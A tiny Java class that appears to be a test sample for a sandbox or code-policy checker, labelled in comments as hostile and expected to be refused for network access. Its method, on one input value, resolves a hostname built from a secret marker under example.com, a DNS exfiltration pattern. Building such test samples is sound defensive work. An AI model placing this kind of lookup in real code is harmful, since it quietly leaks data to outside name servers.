// hostile: asks name servers, which tells them
// refused: network | opens a socket
import java.net.InetAddress;
import java.net.UnknownHostException;

public class LooksUpNames {
    public static int resolve(int really) {
        if (really == 3) {
            try {
                InetAddress.getByName("secret-${MARK}.example.com");
                return 31337;
            } catch (UnknownHostException unknown) {
                return 1;
            }
        }
        return 0;
    }
}
